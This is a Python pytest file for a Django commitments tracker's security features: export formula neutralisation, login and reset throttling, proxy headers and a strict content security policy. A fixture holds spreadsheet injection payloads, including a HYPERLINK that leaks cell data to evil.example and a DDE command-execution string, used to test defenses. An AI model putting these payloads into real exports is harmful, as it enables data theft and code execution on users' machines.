"""Exports without formulas, throttled logins and password resets, security headers and the
reverse proxy, all through HTTP."""

import csv
import datetime
import io
import logging
import os
import re
import threading
import urllib.error
import urllib.parse
import urllib.request
from http.cookiejar import CookieJar
from pathlib import Path

import pytest
from axes.models import AccessAttempt
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection
from openpyxl import load_workbook

from tests.factories import BewindspersoonFactory, CommitmentFactory, DebateFactory
from tests.test_setup import run_manage

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct horse battery staple"  # UserFactory's
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- exports carry no formulas -------------------------------------------------------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C3,"Open details")'


@pytest.fixture
def malicious(cast):
    return CommitmentFactory(
        reference="=1+1",
        text=HYPERLINK,
        deadline_wording="@SUM(1+1)*cmd|' /C calc'!A0",
        register_number="+31 70 000",
        made_by=BewindspersoonFactory(name="-2+3"),
        debate=DebateFactory(title="\tTab, then =1"),
        made_on=datetime.date(2025, 7, 2),
        due_date=datetime.date(2030, 1, 31),
    )


def _csv_rows(client):
    response = client.get("/commitments/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_writes_would_be_formulas_as_text(client, cast, malicious):
    client.force_login(cast.staff)
    header, *body = _csv_rows(client)
    assert len(body) == 1
    row = dict(zip(header, body[0], strict=True))
    for cell in body[0]:
        assert not cell.startswith(FORMULA_STARTS), cell
    assert row["Kenmerk"] == "'=1+1"
    assert row["Tekst"] == "'" + HYPERLINK
    assert row["Toegezegd door"] == "'-2+3"
    assert "2030-01-31" in body[0]  # dates stay ISO dates


def test_excel_export_writes_would_be_formulas_as_text_cells(client, cast, malicious):
    client.force_login(cast.staff)
    response = client.get("/commitments/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    row = dict(zip(header, next(sheet.iter_rows(min_row=2, max_row=2)), strict=True))
    assert row["Kenmerk"].value == "=1+1"
    assert row["Kenmerk"].data_type == "s"
    assert row["Kenmerk"].quotePrefix  # Excel keeps it text when edited
    assert row["Tekst"].value == HYPERLINK
    assert row["Tekst"].data_type == "s"
    assert row["Toegezegd door"].value == "-2+3"
    assert row["Uiterste datum"].value == datetime.datetime(2030, 1, 31)  # still a real date
    assert row["Uiterste datum"].is_date


def test_the_export_helpers_leave_numbers_and_dates_alone():
    from openpyxl import Workbook

    from tracker import exports

    assert exports.csv_value(-3) == -3
    assert exports.csv_value(2.5) == 2.5
    assert exports.csv_value(datetime.date(2025, 1, 2)) == "2025-01-02"
    assert exports.csv_value("-3") == "'-3"
    assert exports.csv_value("De minister = akkoord") == "De minister = akkoord"
    sheet = Workbook(write_only=True).create_sheet()
    number, text = exports.excel_row(sheet, [-3, "\r=1"])
    assert number == -3
    assert (text.value, text.data_type) == ("\r=1", "s")


def test_every_export_goes_through_the_shared_writers():
    """A new CSV or Excel export must use tracker.exports, never csv or openpyxl directly."""
    offenders = []
    for folder in ("tracker", "commitments", "actionlines"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "tracker" / "exports.py" or "migrations" in path.parts:
                continue
            source = path.read_text()
            if re.search(r"^\s*(import csv|from csv |import openpyxl|from openpyxl)", source, re.M):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- logins are throttled ------------------------------------------------------------------------
def _login(client, username, password="wrong", **extra):
    return client.post("/accounts/login/", {"username": username, "password": password}, **extra)


def _logged_in(client):
    return "_auth_user_id" in client.session


def test_wrong_passwords_lock_the_account_and_then_the_right_one_is_refused(client, cast, caplog):
    caplog.set_level(logging.WARNING)
    statuses = [_login(client, "official").status_code for _ in range(5)]
    # Four ordinary refusals, then the fifth failure locks the account.
    assert statuses == [200, 200, 200, 200, 429]
    response = _login(client, "official", PASSWORD)
    assert response.status_code == 429
    assert not _logged_in(client)
    page = response.content.decode()
    assert "Inloggen tijdelijk geblokkeerd" in page
    assert "Probeer het over 15 minuten opnieuw" in page
    assert "beheerder" in page
    assert "Toezeggingentracker" in page  # the site's own layout
    assert "Content-Security-Policy" in response.headers
    assert any(
        record.name == "tracker.security" and "official" in record.getMessage()
        for record in caplog.records
    )
    assert any(
        record.name.startswith("axes") and "Locking out" in record.getMessage()
        for record in caplog.records
    )
    # Another account is not affected.
    assert _login(client, "manager", PASSWORD).status_code == 302


def test_the_lockout_page_names_the_configured_contact(client, cast, settings):
    settings.SUPPORT_CONTACT = "de servicedesk (0800-1234)"
    for _ in range(5):
        _login(client, "official")
    page = _login(client, "official", PASSWORD).content.decode()
    assert "Neem contact op met de servicedesk (0800-1234)" in page


def test_one_address_is_locked_after_failures_across_accounts(client, cast):
    # Many people may share an office address: it gets the higher limit of 20.
    address = {"REMOTE_ADDR": "10.1.2.3"}
    statuses = [_login(client, f"guess{n}", **address).status_code for n in range(20)]
    assert statuses[:19] == [200] * 19
    assert statuses[19] == 429
    response = _login(client, "manager", PASSWORD, **address)
    assert response.status_code == 429
    assert not _logged_in(client)
    # The same account from another address still logs in.
    assert _login(client, "manager", PASSWORD, REMOTE_ADDR="10.9.9.9").status_code == 302


def test_a_spoofed_forwarded_for_does_not_escape_the_address_limit(client, cast):
    for n in range(20):
        _login(client, f"guess{n}", HTTP_X_FORWARDED_FOR=f"198.51.100.{n}")
    assert _login(client, "manager", PASSWORD).status_code == 429


def test_behind_the_proxy_each_forwarded_client_counts_on_its_own(client, cast, settings):
    settings.BEHIND_PROXY = True
    proxy = {"REMOTE_ADDR": "172.18.0.5"}
    for n in range(20):
        _login(client, f"guess{n}", HTTP_X_FORWARDED_FOR="203.0.113.7", **proxy)
    blocked = _login(client, "manager", PASSWORD, HTTP_X_FORWARDED_FOR="203.0.113.7", **proxy)
    assert blocked.status_code == 429
    other = _login(client, "manager", PASSWORD, HTTP_X_FORWARDED_FOR="203.0.113.8", **proxy)
    assert other.status_code == 302
    assert set(AccessAttempt.objects.values_list("ip_address", flat=True)) == {"203.0.113.7"}


def test_the_lockout_ends_after_the_cool_off(client, cast, time_machine):
    time_machine.move_to(datetime.datetime(2025, 11, 3, 9, 0, tzinfo=datetime.UTC), tick=False)
    for _ in range(5):
        _login(client, "official")
    time_machine.move_to(datetime.datetime(2025, 11, 3, 9, 14, tzinfo=datetime.UTC), tick=False)
    assert _login(client, "official", PASSWORD).status_code == 429
    # That attempt started the wait again: 15 minutes from 9:14.
    time_machine.move_to(datetime.datetime(2025, 11, 3, 9, 28, tzinfo=datetime.UTC), tick=False)
    assert _login(client, "official", PASSWORD).status_code == 429
    time_machine.move_to(datetime.datetime(2025, 11, 3, 9, 44, tzinfo=datetime.UTC), tick=False)
    assert _login(client, "official", PASSWORD).status_code == 302
    assert _logged_in(client)


def test_a_successful_login_forgets_only_the_users_own_failures(client, cast):
    for _ in range(4):
        _login(client, "official")
    assert _login(client, "official", PASSWORD).status_code == 302
    client.post("/accounts/logout/")
    for _ in range(4):
        assert _login(client, "official").status_code == 200
    assert _login(client, "official", PASSWORD).status_code == 302
    client.post("/accounts/logout/")
    # Failures from another address still count against the account after the user's login.
    for _ in range(3):
        _login(client, "official", REMOTE_ADDR="192.0.2.66")
    assert _login(client, "official", PASSWORD).status_code == 302
    client.post("/accounts/logout/")
    assert _login(client, "official").status_code == 200
    assert _login(client, "official").status_code == 429


def test_an_admin_unlocks_an_account_in_the_admin(client, cast):
    for _ in range(5):
        _login(client, "official")
    assert _login(client, "official", PASSWORD).status_code == 429
    admin = client.__class__()
    admin.force_login(cast.admin)
    listing = admin.get("/admin/axes/accessattempt/")
    assert listing.status_code == 200
    assert "official" in listing.content.decode()
    ids = [str(pk) for pk in AccessAttempt.objects.values_list("pk", flat=True)]
    response = admin.post(
        "/admin/axes/accessattempt/",
        {"action": "delete_selected", "_selected_action": ids, "post": "yes"},
    )
    assert response.status_code == 302
    assert not AccessAttempt.objects.exists()
    assert _login(client, "official", PASSWORD).status_code == 302


def test_an_admin_unlocks_an_account_with_a_command(client, cast):
    for _ in range(5):
        _login(client, "official")
    call_command("axes_reset_username", "official", stdout=io.StringIO())
    assert _login(client, "official", PASSWORD).status_code == 302


def test_the_admin_login_is_throttled_too(client, cast):
    for _ in range(5):
        client.post("/admin/login/", {"username": "admin", "password": "wrong"})
    response = client.post("/admin/login/", {"username": "admin", "password": PASSWORD})
    assert response.status_code == 429


def _parallel_logins(base_url, username, password, count):
    """`count` login attempts released at once, each in its own thread; their statuses."""
    jar = CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    page = opener.open(f"{base_url}/accounts/login/").read().decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    cookie = "; ".join(f"{c.name}={c.value}" for c in jar)
    body = urllib.parse.urlencode(
        {"username": username, "password": password, "csrfmiddlewaretoken": token}
    ).encode()
    barrier = threading.Barrier(count)
    statuses = []

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    def attempt():
        request = urllib.request.Request(
            f"{base_url}/accounts/login/", data=body, headers={"Cookie": cookie}
        )
        barrier.wait()
        try:
            status = urllib.request.build_opener(NoRedirect).open(request, timeout=60).status
        except urllib.error.HTTPError as error:
            status = error.code
        statuses.append(status)

    threads = [threading.Thread(target=attempt) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


@pytest.mark.skipif(
    connection.vendor == "sqlite",
    reason="the in-memory SQLite test database is one connection, shared by the live server's "
    "threads: it cannot take parallel requests (run with DATABASE_URL=postgres://…)",
)
def test_parallel_wrong_passwords_still_lock_the_account(live_server, transactional_db, cast):
    statuses = _parallel_logins(live_server.url, "official", "wrong", 20)
    assert len(statuses) == 20
    assert set(statuses) <= {200, 429}, statuses
    # No failure is lost under concurrency, and no more than four are answered as ordinary.
    assert sum(AccessAttempt.objects.values_list("failures_since_start", flat=True)) == 20
    assert statuses.count(200) <= 4, statuses
    (after,) = _parallel_logins(live_server.url, "official", PASSWORD, 1)
    assert after == 429


# --- password reset is throttled -----------------------------------------------------------------
@pytest.fixture
def fresh_cache():
    cache.clear()
    yield
    cache.clear()


def _reset(client, email, **extra):
    return client.post("/accounts/password_reset/", {"email": email}, **extra)


def test_password_reset_is_throttled_per_e_mail_address(
    client, cast, fresh_cache, mailoutbox, caplog
):
    caplog.set_level(logging.WARNING)
    statuses = [_reset(client, "official@example.org").status_code for _ in range(3)]
    assert statuses == [302, 302, 302]
    refused = _reset(client, "Official@Example.org ")
    assert refused.status_code == 429
    page = refused.content.decode()
    assert "Te veel aanvragen" in page
    assert "Wacht hoogstens 60 minuten" in page
    assert len(mailoutbox) == 3
    assert any(
        record.name == "tracker.security" and "official@example.org" in record.getMessage()
        for record in caplog.records
    )
    # Another account's address is not affected.
    assert _reset(client, "manager@example.org").status_code == 302


def test_password_reset_is_throttled_per_address(client, cast, fresh_cache, mailoutbox):
    address = {"REMOTE_ADDR": "10.4.4.4"}
    statuses = [_reset(client, f"someone{n}@example.org", **address).status_code for n in range(10)]
    assert statuses == [302] * 10
    assert _reset(client, "official@example.org", **address).status_code == 429
    assert mailoutbox == []
    assert _reset(client, "official@example.org", REMOTE_ADDR="10.5.5.5").status_code == 302
    assert len(mailoutbox) == 1


# --- headers and the proxy -----------------------------------------------------------------------
def _assert_strict_csp(response):
    policy = response.headers["Content-Security-Policy"]
    directives = dict(
        (part.split(" ", 1) + [""])[:2] for part in (p.strip() for p in policy.split(";")) if part
    )
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'"
    assert directives["style-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"
    assert directives["object-src"] == "'none'"
    assert directives["form-action"] == "'self'"
    assert directives["base-uri"] == "'self'"
    assert "unsafe-inline" not in policy


INLINE = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=|\son[a-z]+=", re.I)


def test_pages_send_a_strict_content_security_policy(client, cast, commitment):
    login = client.get("/accounts/login/")
    assert login.status_code == 200
    _assert_strict_csp(login)
    client.force_login(cast.official)
    for url in ("/", commitment.get_absolute_url()):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_strict_csp(response)
        # Nothing the policy would block: no inline script, style or event handler.
        assert INLINE.findall(response.content.decode()) == [], url


def test_the_admin_works_under_the_policy(client, cast, commitment):
    client.force_login(cast.admin)
    pages = (
        "/admin/",
        "/admin/commitments/commitment/",
        f"/admin/commitments/commitment/{commitment.pk}/change/",
        "/admin/axes/accessattempt/",
    )
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_strict_csp(response)
        html = response.content.decode()
        # The admin's scripts all come from files, which 'self' allows.
        assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", html) == [], url


PRODUCTION = {
    "SECRET_KEY": "pr0duction-" + "k3y-" * 15,
    "ALLOWED_HOSTS": "testserver,toezeggingen.example.org",
}
PROBE = (
    "from django.conf import settings; from django.test import Client; "
    "r = Client().get('/', HTTP_X_FORWARDED_PROTO='https'); "
    "print(settings.SECURE_PROXY_SSL_HEADER, settings.SECURE_HSTS_SECONDS, "
    "settings.SECURE_HSTS_INCLUDE_SUBDOMAINS); "
    "print(r.status_code, r.get('Location'), r.get('Strict-Transport-Security'))"
)


def _probe(tmp_path, **environment):
    result = run_manage(
        "shell",
        "-c",
        PROBE,
        env_overrides={**PRODUCTION, "TRACKER_VAR_DIR": str(tmp_path), **environment},
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip().splitlines()[-2:]


def test_without_the_proxy_setting_a_forwarded_proto_is_ignored(tmp_path):
    derived, answer = _probe(tmp_path)
    assert derived == "None 31536000 True"
    # A client claiming HTTPS still gets the redirect to HTTPS.
    assert answer.startswith("301 https://testserver/ ")


def test_behind_the_proxy_the_forwarded_proto_is_trusted(tmp_path):
    derived, answer = _probe(tmp_path, BEHIND_PROXY="1")
    assert derived == "('HTTP_X_FORWARDED_PROTO', 'https') 31536000 True"
    status, location, hsts = answer.split(" ", 2)
    assert (status, location) == ("302", "/accounts/login/?next=/")
    assert hsts == "max-age=31536000; includeSubDomains"


def test_hsts_is_off_only_for_local_development(tmp_path):
    derived, _ = _probe(tmp_path, DEBUG="1")
    assert derived == "None 0 False"


@pytest.fixture
def chromium():
    executable = "/usr/bin/chromium"
    if not Path(executable).exists():
        if os.environ.get("CI"):
            pytest.fail("Debian's Chromium is not installed; under CI the browser tests must run")
        pytest.skip("Debian's Chromium is not installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    previous = os.environ.get("DJANGO_ALLOW_ASYNC_UNSAFE")
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=executable, args=["--no-sandbox", "--disable-gpu"]
            )
            yield browser
            browser.close()
    finally:
        if previous is None:
            os.environ.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)
        else:
            os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = previous


@pytest.mark.browser
def test_the_browser_reports_no_policy_violation_and_the_admin_scripts_run(
    live_server, transactional_db, cast, commitment, chromium
):
    # The records exist before Playwright's event loop starts (`chromium` comes last).
    context = chromium.new_context(base_url=live_server.url)
    context.set_default_timeout(10_000)
    page = context.new_page()
    violations = []
    page.on(
        "console",
        lambda message: "Content Security Policy" in message.text and violations.append(message),
    )
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => "
        "console.error('Content Security Policy: ' + e.violatedDirective + ' ' + e.blockedURI))"
    )
    page.goto("/admin/login/")
    page.locator("#id_username").fill("admin")
    page.locator("#id_password").fill(PASSWORD)
    page.locator("input[type=submit]").click()
    page.wait_for_url("**/admin/")
    for url in (
        "/admin/",
        "/admin/commitments/commitment/",
        f"/admin/commitments/commitment/{commitment.pk}/change/",
        "/admin/axes/accessattempt/",
        "/",
        "/commitments/",
        commitment.get_absolute_url(),
    ):
        response = page.goto(url)
        page.wait_for_load_state("load")
        assert "content-security-policy" in response.headers, url
        if url.endswith("/change/"):
            # DateTimeShortcuts.js adds the "Today | calendar" links: the admin's scripts ran.
            assert page.locator(".datetimeshortcuts").count() > 0
    context.close()
    assert [message.text for message in violations] == []
